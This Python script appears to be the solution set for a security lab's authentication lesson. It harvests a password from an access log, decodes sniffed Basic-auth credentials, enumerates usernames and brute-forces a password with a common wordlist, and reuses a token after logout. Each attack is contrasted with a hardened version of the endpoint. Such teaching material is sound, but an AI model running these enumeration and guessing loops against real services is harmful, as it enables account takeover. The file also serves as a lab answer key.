"""Lesson "Authentication": every challenge, solved from Python.

Save the lab's CA as safelab-ca.pem next to this script (the app's "Download the
lab's CA"), then run:  python challenges.py
Each step prints what the server answered; the lab marks each challenge solved
the moment it sees it done.
"""

import base64
import sys

import requests

HTTP = "{{http}}"
HTTPS = "{{https}}"
CA = "safelab-ca.pem"
INSECURE = f"{HTTP}/lab/insecure/auth"
SECURE = f"{HTTPS}/lab/secure/auth"
ME = {"username": "ning", "password": "tea-and-biscuits-42"}
WORDLIST = ["123456", "password", "admin", "qwerty", "letmein",
            "welcome", "secret", "password1", "changeme", "test123"]


def check(condition: bool, message: str) -> None:
    """Stops with a message when the lab did not answer as the lesson says."""
    if not condition:
        sys.exit(f"unexpected: {message}")


def password_in_log() -> None:
    """A password in the URL ends up in the server's access log."""
    report = requests.get(
        f"{INSECURE}/report",
        params={"user": ME["username"], "password": ME["password"]},
        timeout=10,
    )
    check(report.status_code == 200, f"the report answered {report.status_code}")
    log = requests.get(f"{INSECURE}/access-log", timeout=10).json()
    leaked = [line for line in log["log"] if ME["password"] in line]
    check(bool(leaked), "the access log shows no password")
    print("password-in-log:", leaked[-1])
    print("   ", log["referer"])


def sniff_basic() -> None:
    """The colleague's Basic credentials, read off a plain-HTTP capture."""
    capture = requests.get(f"{INSECURE}/capture", timeout=10).text
    line = next(line for line in capture.splitlines() if line.startswith("Authorization: Basic "))
    user, password = base64.b64decode(line.split()[-1]).decode().split(":", 1)
    answer = requests.get(f"{INSECURE}/basic", auth=(user, password), timeout=10)
    check(answer.status_code == 200, f"logging in as {user} answered {answer.status_code}")
    print("sniff-basic:", user, "/", password, "->", answer.json()["report"])

    encrypted = requests.get(f"{SECURE}/capture", verify=CA, timeout=10).text
    check("Authorization" not in encrypted, "the HTTPS capture shows a header")
    print("    over HTTPS the capture holds only encrypted records")


def enumerate_and_guess() -> str:
    """Different answers tell which account exists; no limit lets a wordlist in."""
    found = None
    for name in ["admin", "etl", "backup", "reports", "statsbot"]:
        answer = requests.post(
            f"{INSECURE}/login", json={"username": name, "password": "x"}, timeout=10
        )
        print(f"    {name:9} {answer.status_code} {answer.json()['message']}")
        if answer.status_code == 401:
            found = name
    check(found == "reports", f"the account found is {found}")
    print("enumerate-user:", found)

    for guess in WORDLIST:
        answer = requests.post(
            f"{INSECURE}/login", json={"username": found, "password": guess}, timeout=10
        )
        if answer.status_code == 200:
            print("guess-password:", guess)
            return found
    sys.exit("unexpected: no password of the wordlist worked")


def meet_the_limit(account: str) -> None:
    """The same loop against the secure twin stops at a 429."""
    plain = requests.post(f"{HTTP}/lab/secure/auth/login", json=ME, allow_redirects=False, timeout=10)
    check(plain.status_code == 403, f"a login over plain HTTP answered {plain.status_code}")
    for guess in WORDLIST:
        answer = requests.post(
            f"{SECURE}/login", json={"username": account, "password": guess}, verify=CA, timeout=10
        )
        check(answer.status_code in (401, 429), f"{guess} answered {answer.status_code}")
        if answer.status_code == 429:
            print("meet-the-limit: 429, Retry-After", answer.headers["Retry-After"], "s")
            return
    sys.exit("unexpected: the secure twin never stopped the guessing")


def reuse_token() -> None:
    """A logout that does not revoke the token; then one that does."""
    token = requests.post(f"{INSECURE}/login", json=ME, timeout=10).json()["token"]
    bearer = {"Authorization": f"Bearer {token}"}
    requests.post(f"{INSECURE}/logout", headers=bearer, timeout=10).raise_for_status()
    after = requests.get(f"{INSECURE}/report", headers=bearer, timeout=10)
    check(after.status_code == 200, f"the logged-out token answered {after.status_code}")
    print("reuse-token:", token, "still works after the logout")

    login = requests.post(f"{SECURE}/login", json=ME, verify=CA, timeout=10)
    check(login.status_code == 200, f"the secure login answered {login.status_code}")
    bearer = {"Authorization": f"Bearer {login.json()['token']}"}
    requests.post(f"{SECURE}/logout", headers=bearer, verify=CA, timeout=10).raise_for_status()
    after = requests.get(f"{SECURE}/report", headers=bearer, verify=CA, timeout=10)
    check(after.status_code == 401, f"the revoked secure token answered {after.status_code}")
    print("    the secure twin's revoked token:", after.headers["WWW-Authenticate"])


def main() -> None:
    password_in_log()
    sniff_basic()
    account = enumerate_and_guess()
    meet_the_limit(account)
    reuse_token()


if __name__ == "__main__":
    main()
